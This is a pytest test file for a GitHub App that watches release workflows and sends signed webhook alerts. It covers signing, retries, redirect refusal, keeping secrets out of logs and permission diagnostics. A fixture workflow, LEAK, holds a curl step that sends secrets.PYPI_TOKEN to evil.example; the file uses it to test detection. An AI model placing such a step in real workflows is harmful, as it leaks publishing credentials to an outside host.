"""The operator hears on a channel beside GitHub: signed, once, with patience, and without a word of the channel's secret."""

import base64
import hashlib
import hmac
import json
import logging
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from redis import Redis

from bot.evaluation.package_alerts import AlertReason, PackageAlert, PackageAlertKind
from bot.model.core_types import RegistryId, RepositoryId, Severity
from bot.model.errors import ConfigurationError
from bot.packages.versions import Package
from bot.rendering.notification import Notification, NotificationKind, cloud_event
from handlers.cache.diagnoses import DiagnosisState
from handlers.config.context import Context
from handlers.config.settings import Settings
from handlers.jobs.job_table import run_job
from handlers.jobs.notifications import notify, sign, try_channels
from handlers.jobs.repositories.diagnose import required_events
from handlers.queue.enqueue import QUEUES
from handlers.queue.job_specs import (
    Diagnose,
    ForgetRepository,
    RedeliverFailed,
    SendHeartbeat,
    SendNotifications,
    WritePackageAlert,
)
from handlers.records.notification_store import NotificationStore
from handlers.records.package_alert_store import PackageAlertStore, StoredPackageAlert
from handlers.worker.clock import TIMETABLE
from tests.app.acme import (
    RELEASE_WORKFLOW_PATH,
    TRUSTED_PUBLISHING,
    AcmeInstallation,
    acme_on,
    adopt_policy,
    policy,
)
from tests.conftest import environment
from tests.fakes.github.http_api.faults import Fault
from tests.handlers.jobs.changes.push_scenario import PushScenario, push_scenario

KEY = bytes(range(32))
SECRET = "whsec_" + base64.b64encode(KEY).decode()
NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)


@dataclass
class Receiver:
    """A real HTTP server that notes what it gets, and answers as it is told to."""

    requests: list[tuple[str, dict[str, str], bytes]] = field(default_factory=list)
    status: int = 204
    headers: dict[str, str] = field(default_factory=dict)
    port: int = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/hooks/s3cret-path?token=s3cret-query"

    @property
    def events(self) -> list[dict[str, Any]]:
        return [json.loads(body) for _, _, body in self.requests]

    @property
    def titles(self) -> list[str]:
        return [each["data"]["finding_info"]["title"] for each in self.events]


@contextmanager
def receiving() -> Iterator[Receiver]:
    receiver = Receiver()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            receiver.requests.append((self.path, {name.lower(): value for name, value in self.headers.items()}, body))
            self.send_response(receiver.status)
            for name, value in receiver.headers.items():
                self.send_header(name, value)
            self.send_header("content-length", "0")
            self.end_headers()

        do_GET = do_POST  # noqa: N815 - the name that http.server calls

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name that http.server gives
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    receiver.port = server.server_port
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield receiver
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@dataclass
class Clock:
    now: datetime = NOW

    def __call__(self) -> datetime:
        return self.now


def context_of(acme: AcmeInstallation, *urls: str, clock: Clock | None = None, heartbeat: str = "") -> Context:
    """The context of an App whose operator named these channels."""
    context = acme.context
    settings = replace(context.settings, alert_urls=urls, alert_secrets=(KEY,), heartbeat_url=heartbeat)
    return replace(context, settings=settings, clock=clock or Clock())


def send(context: Context) -> None:
    run_job(context, SendNotifications())


def notification(key: str = "k", **changes: Any) -> Notification:  # noqa: ANN401 - a field's own type
    said = Notification(
        key=key,
        kind=NotificationKind.CHANGE_ALERT,
        title="A secret is sent away in acme/widgets",
        text="mallory pushed the branch main:\n- a step sends PYPI_TOKEN to evil.example",
        severity=Severity.CRITICAL,
        at=NOW,
        subject="acme/widgets",
    )
    return replace(said, **changes)


def test_the_signature_is_that_of_standard_webhooks() -> None:
    # The example of the specification: github.com/standard-webhooks/standard-webhooks, libraries' tests.
    key = base64.b64decode("MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw")
    signature = sign(key, "msg_p5jXN8AQM9LWM0D4loKWxJek", 1614265330, b'{"test": 2432232314}')
    assert signature == "v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE="


def test_a_webhook_is_a_signed_cloud_event_with_a_detection_finding(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        context = context_of(acme, receiver.url)
        assert notify(context, notification()) == [SendNotifications()]
        send(context)

        ((path, headers, body),) = receiver.requests
        assert path == "/hooks/s3cret-path?token=s3cret-query"
        assert headers["content-type"].startswith("application/cloudevents+json")
        signed = f"{headers['webhook-id']}.{headers['webhook-timestamp']}.".encode() + body
        expected = base64.b64encode(hmac.digest(KEY, signed, hashlib.sha256)).decode()
        assert headers["webhook-signature"] == f"v1,{expected}"
        assert headers["webhook-timestamp"] == str(int(NOW.timestamp()))

        (event,) = receiver.events
        assert (event["specversion"], event["type"]) == ("1.0", "wharfinger.change-alert.raised")
        assert event["id"] == headers["webhook-id"]
        assert event["source"] == f"urn:wharfinger:app:{acme.github.app.id}"
        finding = event["data"]
        assert (finding["class_uid"], finding["type_uid"], finding["activity_id"]) == (2004, 200401, 1)
        assert (finding["severity_id"], finding["status_id"]) == (5, 1)
        assert finding["resources"] == [{"name": "acme/widgets", "type": "GitHub"}]


def test_the_same_key_is_told_once_on_each_channel(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as one, receiving() as two:
        context = context_of(acme, one.url, two.url)
        notify(context, notification())
        send(context)
        assert notify(context, notification()) == []
        send(context)
        notify(context, notification("another"))
        send(context)
        assert len(one.requests) == len(two.requests) == 2


def test_what_is_not_taken_is_sent_again_with_growing_pauses_and_the_same_id(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        clock = Clock()
        context = context_of(acme, receiver.url, clock=clock)
        receiver.status = 500
        notify(context, notification())
        tries = []
        for _ in range(6 * 60):
            send(context)
            tries.append(len(receiver.requests))
            clock.now += timedelta(minutes=1)
        assert 8 <= tries[-1] <= 16, "six hours: seconds apart at first, and an hour at last"
        assert tries[10] >= 4
        receiver.status = 204
        clock.now += timedelta(hours=2)
        send(context)
        send(context)
        assert len(receiver.requests) == tries[-1] + 1
        assert len({headers["webhook-id"] for _, headers, _ in receiver.requests}) == 1


def test_a_channel_says_how_long_it_wants_to_be_left_alone(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        clock = Clock()
        context = context_of(acme, receiver.url, clock=clock)
        receiver.status, receiver.headers = 429, {"retry-after": "600"}
        notify(context, notification("one"), notification("two"))
        send(context)
        assert len(receiver.requests) == 1, "the second is not tried on a channel that wants no more"
        clock.now += timedelta(minutes=9)
        send(context)
        assert len(receiver.requests) == 1
        clock.now += timedelta(minutes=2)
        receiver.status = 200
        send(context)
        assert len(receiver.requests) == 3


def test_a_channel_that_fails_holds_up_no_other_and_the_other_hears_of_it(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as good:
        clock = Clock()
        dead = "http://127.0.0.1:9/hooks/s3cret-path"
        context = context_of(acme, dead, good.url, clock=clock)
        notify(context, notification())
        for _ in range(5):
            send(context)
            clock.now += timedelta(minutes=1)
        assert good.titles == [
            "A secret is sent away in acme/widgets",
            "A channel of Wharfinger's alerts does not work: channel 1 (http://127.0.0.1)",
        ]
        assert "s3cret" not in json.dumps(good.events)


def test_a_redirect_is_not_followed(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver, receiving() as elsewhere:
        receiver.status, receiver.headers = 307, {"location": elsewhere.url}
        context = context_of(acme, receiver.url)
        notify(context, notification())
        send(context)
        assert len(receiver.requests) == 1
        assert elsewhere.requests == []
        assert NotificationStore(acme.records).waiting() == 1


def test_no_part_of_a_channels_secret_is_logged_or_stored(redis: Redis, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    for logger in ("httpx", "httpcore", "urllib3"):
        caplog.set_level(logging.WARNING, logger)  # as set_up_logging has them
    with acme_on(redis) as acme, receiving() as receiver:
        receiver.status = 500
        urls = (receiver.url, "json://s3cret-user:s3cret-word@127.0.0.1:9/s3cret-path", "unknown://s3cret/s3cret")
        context = context_of(acme, *urls, heartbeat=receiver.url)
        notify(context, notification())
        send(context)
        run_job(context, SendHeartbeat())
        told = [str(each) for each in try_channels(context.settings, NOW)]
        assert "did not take a notification" in caplog.text
        assert len(told) == 4
        assert "s3cret" not in caplog.text + "".join(told) + repr(context.settings)
        assert b"s3cret" not in (acme.data / "records.sqlite3").read_bytes()


def test_apprise_takes_the_other_channels(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        context = context_of(acme, f"json://127.0.0.1:{receiver.port}/chat")
        notify(context, notification(title="<!channel> @everyone\u202e\x1b[31m"))
        send(context)
        ((_, _, body),) = receiver.requests
        said = json.loads(body)
        assert said["title"] == "<!channel> @everyone\\u202e\\u001b[31m"
        assert "a step sends PYPI_TOKEN to evil.example" in said["message"]


def test_what_others_write_is_short_and_plain() -> None:
    event = cloud_event(notification(title="x\n\x1b]0;" + "y" * 5000, text="z\x00" * 50_000), 1, "1.0")
    assert len(json.dumps(event)) < 20_000
    finding = event["data"]["finding_info"]
    assert finding["title"].isprintable()
    assert finding["desc"].isprintable()


def test_the_doctor_sends_a_test_to_each_channel(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        context = context_of(acme, receiver.url, "nonsense://host", heartbeat=receiver.url)
        good, bad, heartbeat = try_channels(context.settings, NOW)
        assert good.state is heartbeat.state is DiagnosisState.OK
        assert bad.state is DiagnosisState.MISSING
        assert "Apprise does not know such a URL" in str(bad)
        event = json.loads(receiver.requests[0][2])
        assert event["type"] == "wharfinger.test.raised"
        assert event["data"]["severity_id"] == 1


def test_the_dead_man_url_is_asked_each_minute() -> None:
    assert [each.interval for each in TIMETABLE if each.spec == SendHeartbeat()] == [60]


def test_a_heartbeat_is_a_request_and_needs_the_records(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        context = context_of(acme, heartbeat=receiver.url)
        run_job(context, SendHeartbeat())
        assert len(receiver.requests) == 1
        run_job(context_of(acme), SendHeartbeat())
        assert len(receiver.requests) == 1


def diagnosed(context: Context) -> None:
    run_job(context, Diagnose())
    send(context)


def test_what_the_app_loses_is_told_and_that_it_is_back(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        clock = Clock()
        context = context_of(acme, receiver.url, clock=clock)
        diagnosed(context)
        clock.now += timedelta(minutes=2)
        receiver.requests.clear()

        acme.github.suspend(acme.installation)
        diagnosed(context)
        assert receiver.titles == ["Wharfinger's installation on acme: it is suspended: nothing is checked there"]
        clock.now += timedelta(minutes=2)
        diagnosed(context)
        assert len(receiver.requests) == 1
        acme.github.unsuspend(acme.installation)
        clock.now += timedelta(minutes=2)
        diagnosed(context)
        assert receiver.titles[1:] == ["Resolved: Wharfinger's installation on acme: all that is needed is granted"]
        assert receiver.events[1]["data"]["status_id"] == 4


def test_a_withdrawn_permission_and_an_uninstalled_app_are_told(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        clock = Clock()
        context = context_of(acme, receiver.url, clock=clock)
        diagnosed(context)
        receiver.requests.clear()
        clock.now += timedelta(minutes=2)
        acme.github.revoke_permissions(acme.installation, "issues")
        diagnosed(context)
        assert [each.partition(":")[0] for each in receiver.titles] == [
            "Wharfinger's installation on acme, permission issues"
        ]
        clock.now += timedelta(minutes=2)
        receiver.requests.clear()
        acme.github.uninstall(acme.installation)
        diagnosed(context)
        assert "Wharfinger's installation on acme: the App is no longer installed there" in receiver.titles


def test_each_permission_and_event_that_is_taken_away_is_told_at_the_next_look(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        clock = Clock()
        context = context_of(acme, receiver.url, clock=clock)
        acme.github.app.events[:] = sorted(required_events())
        diagnosed(context)
        permissions = dict(acme.installation.permissions)
        for name in permissions.keys() - {"metadata"}:  # which cannot be taken away
            receiver.requests.clear()
            acme.installation.permissions.pop(name)
            clock.now += timedelta(minutes=2)
            diagnosed(context)
            assert [f"permission {name}: " in each for each in receiver.titles] == [True], name
            acme.installation.permissions[name] = permissions[name]
            clock.now += timedelta(minutes=2)
            diagnosed(context)
        for event in sorted(required_events()):
            receiver.requests.clear()
            acme.github.app.events.remove(event)
            clock.now += timedelta(minutes=2)
            diagnosed(context)
            assert [f"event {event}: " in each for each in receiver.titles] == [True], event
            acme.github.app.events.append(event)
            clock.now += timedelta(minutes=2)
            diagnosed(context)
        assert len(permissions) > 15


def test_what_is_told_by_a_look_is_looked_at_within_five_minutes() -> None:
    (look,) = [each for each in TIMETABLE if each.spec == Diagnose()]
    (sending,) = [each for each in TIMETABLE if each.spec == SendNotifications()]
    assert 2 * look.interval + sending.interval <= 300, "what could not be seen is told at the second look"


def test_github_that_does_not_answer_is_told_and_nothing_is_called_well_again(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        clock = Clock()
        context = context_of(acme, receiver.url, clock=clock)
        acme.github.suspend(acme.installation)
        diagnosed(context)
        receiver.requests.clear()
        clock.now += timedelta(minutes=2)
        acme.github.inject_fault(Fault.UNAVAILABLE, "/app", times=50)
        diagnosed(context)
        assert [each.partition(":")[0] for each in receiver.titles] == ["Wharfinger's App"]


def test_a_repository_that_left_the_installation_is_told(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        context = context_of(acme, receiver.url)
        widgets = acme.organization.repository("widgets", {RELEASE_WORKFLOW_PATH: TRUSTED_PUBLISHING})
        acme.check(widgets, widgets.head)
        for _ in range(2):
            run_job(context, ForgetRepository(acme.id, RepositoryId(widgets.id)))
            send(context)
        assert receiver.titles == ["acme/widgets was deleted or taken out of the installation"]
        assert receiver.events[0]["data"]["severity_id"] == 4


def test_a_job_that_failed_for_good_is_told(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        clock = Clock()
        context = context_of(acme, receiver.url, clock=clock)
        diagnosed(context)
        receiver.requests.clear()
        clock.now += timedelta(minutes=2)
        redis.zadd(f"rq:failed:{QUEUES[0]}", {"decide-gate-1": clock.now.timestamp()})
        diagnosed(context)
        assert receiver.titles == ["Wharfinger's failed jobs: there are some: 1"]


LEAK = "on: push\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: 'curl -d \"${{ secrets.PYPI_TOKEN }}\" https://evil.example'}]}}\n"


def test_a_change_alert_is_told_once_beside_its_issue(redis: Redis) -> None:
    with push_scenario(redis) as opened, receiving() as receiver:
        story = PushScenario(replace(opened.acme, alert_urls=(receiver.url,)), redis)
        widgets = story.repository("widgets", {RELEASE_WORKFLOW_PATH: TRUSTED_PUBLISHING})
        story.work_until_idle()
        widgets.push({".github/workflows/a.yml": LEAK}, branch="tidy", by="mallory")
        for _ in range(2):
            story.deliveries_taken = 0  # everything is delivered twice
            story.work_until_idle()
        (alert,) = [each["data"]["finding_info"] for each in receiver.events if "change-alert" in each["type"]]
        assert alert["title"].endswith("in acme/widgets")
        assert "PYPI_TOKEN" in alert["desc"]
        assert len(story.security) == 1


def test_a_change_alert_is_told_where_github_takes_no_issue(redis: Redis) -> None:
    with push_scenario(redis, without=("issues",)) as opened, receiving() as receiver:
        story = PushScenario(replace(opened.acme, alert_urls=(receiver.url,)), redis)
        widgets = story.repository("widgets", {RELEASE_WORKFLOW_PATH: TRUSTED_PUBLISHING})
        story.work_until_idle()
        widgets.push({".github/workflows/a.yml": LEAK}, branch="tidy", by="mallory")
        story.work_until_idle()
        assert [each["type"] for each in receiver.events].count("wharfinger.change-alert.raised") == 1


def test_a_package_alert_is_told_as_it_grows_and_when_it_is_resolved(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        widgets = acme.organization.repository("widgets", {"README.md": "w"})
        context, name = context_of(acme, receiver.url), acme.names(widgets)[2]
        store, kind, pypi = PackageAlertStore(acme.records), PackageAlertKind.UNTRACED_VERSION, RegistryId("pypi")
        reason = AlertReason(kind, "1.0", "1.0 came from nowhere", NOW)
        alert = PackageAlert(kind, Package(pypi, "acme-toolbox"), pypi, name, NOW, (reason,))
        grown = replace(alert, reasons=(reason, replace(reason, subject="1.1")))
        for each in (alert, alert, grown, replace(grown, resolved_at=NOW, resolution_evidence=("the step was found",))):
            store.put(acme.id, StoredPackageAlert(each, name, name), NOW.timestamp())
            run_job(context, WritePackageAlert(acme.id, alert.key))
            send(context)
        assert receiver.titles == [
            "Untraced version: acme-toolbox 1.0 on PyPI",
            "Untraced version: acme-toolbox 1.0 and 1 more on PyPI",
            "Resolved: Untraced version: acme-toolbox 1.0 and 1 more on PyPI",
        ]
        assert [each["data"]["severity_id"] for each in receiver.events] == [5, 5, 5]


def test_a_looser_policy_is_told_and_so_is_that_it_took_effect(redis: Redis) -> None:
    with acme_on(redis, policy=policy("enforce")) as opened, receiving() as receiver:
        acme = replace(opened, alert_urls=(receiver.url,))
        home = acme.github.repository("acme/.github")
        for login in ("paula", "peter"):
            home.collaborator(login, "write")
        widgets = acme.organization.repository("widgets", {RELEASE_WORKFLOW_PATH: TRUSTED_PUBLISHING})
        acme.check(widgets, widgets.head)
        home.push({"publishing.yml": policy("observe")}, by="paula")
        acme.check(widgets, widgets.head, recheck=True)
        acme.check(widgets, widgets.head, recheck=True)
        send(acme.context)
        assert receiver.titles == ["The policy was loosened, and the stricter one stays in force in acme/.github"]
        home.push({"publishing.yml": policy("enforce")}, by="paula")
        acme.check(widgets, widgets.head, recheck=True)
        adopt_policy(home, policy("observe") + "# approved\n")
        acme.check(widgets, widgets.head, recheck=True)
        send(acme.context)
        assert [each.partition(":")[0] for each in receiver.titles[1:]] == ["A looser policy is in force"]


def test_deliveries_that_do_not_arrive_are_told_once_an_hour(redis: Redis) -> None:
    with acme_on(redis) as acme, receiving() as receiver:
        widgets = acme.organization.repository("widgets", {"README.md": "w"})
        acme.github.deliver_to("http://127.0.0.1:9/webhook")
        for text in "abcd":
            widgets.push({"README.md": text})
        acme.github.wait_for_deliveries()
        context = context_of(acme, receiver.url)
        for _ in range(2):
            run_job(replace(context, clock=acme.github.clock.utc_now), RedeliverFailed())
            send(context)
        acme.github.wait_for_deliveries()
        send(replace(context, clock=acme.github.clock.utc_now))
        assert receiver.titles == ["GitHub's last 3 deliveries did not arrive"]


def settings_with(**variables: str) -> Settings:
    return Settings.from_environment(environment(**variables))


def test_a_webhook_without_a_secret_is_refused() -> None:
    with pytest.raises(ConfigurationError, match="WHARFINGER_ALERT_SECRET is not set"):
        settings_with(WHARFINGER_ALERT_URL="https://hooks.example/a")
    assert settings_with(WHARFINGER_ALERT_URL="slack://a/b/c").alert_secrets == ()
    named = settings_with(
        WHARFINGER_ALERT_URL="https://hooks.example/a  mailtos://u:p@mail.example?to=a@b.example,c@b.example",
        WHARFINGER_ALERT_SECRET=SECRET,
    )
    assert len(named.alert_urls) == 2


@pytest.mark.parametrize("url", ["http://hooks.example/s3cret", "s3cret", "https:///s3cret", "https://[s3cret"])
def test_a_wrong_channel_is_refused_without_a_word_of_it(url: str) -> None:
    for variable in ("WHARFINGER_ALERT_URL", "WHARFINGER_HEARTBEAT_URL"):
        with pytest.raises(ConfigurationError, match=variable) as refused:
            settings_with(**{variable: url, "WHARFINGER_ALERT_SECRET": SECRET})
        assert "s3cret" not in str(refused.value)


def test_several_secrets_sign_while_one_is_rotated() -> None:
    other = base64.b64encode(bytes(24)).decode()
    assert settings_with(WHARFINGER_ALERT_SECRET=f"{SECRET}, whsec_{other}").alert_secrets == (KEY, bytes(24))
    with pytest.raises(ConfigurationError, match="has a wrong secret at place 1"):
        settings_with(WHARFINGER_ALERT_SECRET="whsec_c2hvcnQ=")
